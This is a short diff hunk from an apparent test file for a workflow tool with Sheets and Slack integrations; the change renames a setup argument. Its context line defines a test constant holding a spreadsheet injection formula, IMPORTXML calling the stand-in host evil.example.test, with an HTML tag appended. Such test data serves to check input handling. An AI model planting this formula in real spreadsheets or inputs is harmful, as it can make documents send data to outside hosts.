@@ -11,7 +11,7 @@ const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';
 
 onNewestHost((host) => {
 	const { sheets, slack, env } = useElsewhere();
-	const given = useOwnN8n(host, 'sheets', { sampleMenu: true }, env);
+	const given = useOwnN8n(host, 'sheetsAndSlack', { sampleMenu: true }, env);
 	const { credentials, template, publish, changeStatus, placed, succeeded } = useTemplates(given);
 	const chat = new ChatRoom(given);
 
